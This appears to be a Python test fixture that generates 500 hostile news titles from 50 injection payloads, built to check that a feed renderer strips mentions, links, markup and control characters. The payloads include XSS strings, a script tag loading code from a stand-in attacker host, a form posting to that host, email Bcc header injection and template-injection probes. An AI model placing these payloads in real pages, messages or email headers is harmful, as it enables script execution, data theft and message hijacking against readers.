"""Five hundred titles that a hostile feed could write: 50 payloads, each carried in ten ways.

Every surface is shown all of them: none may mention anybody, become a link other than http(s), an element or a header.
"""

from __future__ import annotations

from html import escape

_LONG = 40_000

PAYLOADS = (
    "<!channel>",
    "<!here|here> evacuate",
    "<!everyone>",
    "<@U123ABC>",
    "<@W0123456789|the editor>",
    "<#C123|general>",
    "<!subteam^S123|@desk>",
    "<!date^1392734382^{date}|now>",
    "@channel",
    "@here @everyone @group",
    "＠channel ＠here",
    "<https://evil.example|Reuters>",
    "[Reuters](https://evil.example)",
    "javascript:alert(1)",
    "<javascript:alert(1)|Dawn>",
    " JaVa\tScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)",
    '<a href="javascript:alert(1)">Dawn</a>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{display:none}</style>",
    "</style></title></textarea><script>alert(1)</script>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<form action=https://evil.example><input name=q>",
    "<!--[if mso]><b>--> ]]> <![CDATA[x]]>",
    "&lt;!channel&gt; &#60;!here&#62; &amp;lt;",
    "{{ 7 * 7 }} {% raw %} {# no #}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7} #{7*7} %s %n {0}",
    "=?utf-8?q?=0D=0ABcc:_victim=40evil.example?=",
    "=?utf-8?b?DQpCY2M6IHZpY3RpbUBldmlsLmV4YW1wbGU=?=",
    "Breaking\r\nBcc: victim@evil.example\r\n\r\n<b>body</b>",
    "one\u2028two\u2029three\x85four\x0bfive\x0csix",
    "%0d%0aBcc:%20victim@evil.example",
    ".\r\nQUIT\r\n.\r\n",
    "| left | right |\n|---|---|",
    "*bold* _italic_ ~struck~ `code` ```block```",
    "> quoted\n> &gt; twice",
    ":siren: :rotating_light: :+1:",
    "gnp.\u202eexe\u202c \u2066isolated\u2069 \u202dforced",
    "\u200b\u200c\u200d\u00ad\ufeff\u2060",
    "Zalgo h\u0335" + "\u0301" * 80,
    "half a pair \ud83d, the other \udc00",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇵🇰 ❤️ \U000e0041\ufffe",
    "NUL\x00 bell\x07 escape\x1b[31m backspace\x08",
)


def hostile_titles() -> tuple[str, ...]:
    """Return the 500, the same ones in the same order each time."""
    return tuple(title for payload in PAYLOADS for title in _carried(payload))


def _carried(payload: str) -> tuple[str, ...]:
    return (
        payload,
        f"Blast in Quetta: {payload}",
        f"{payload} – three killed in Mastung",
        f"بلوچستان میں {payload} حملہ",
        f"\u202e{payload}\u202c",
        # What is dropped as unsafe must not leave something alive behind.
        "\x00".join(payload),
        "\ufeff".join(payload),
        f"{escape(payload)} <{payload}> {payload[::-1]}",
        f"{payload} " * 3 + "👩‍👩‍👧‍👦" + "\ud83d",
        (f"{payload} " * (_LONG // len(payload)))[:_LONG],
    )
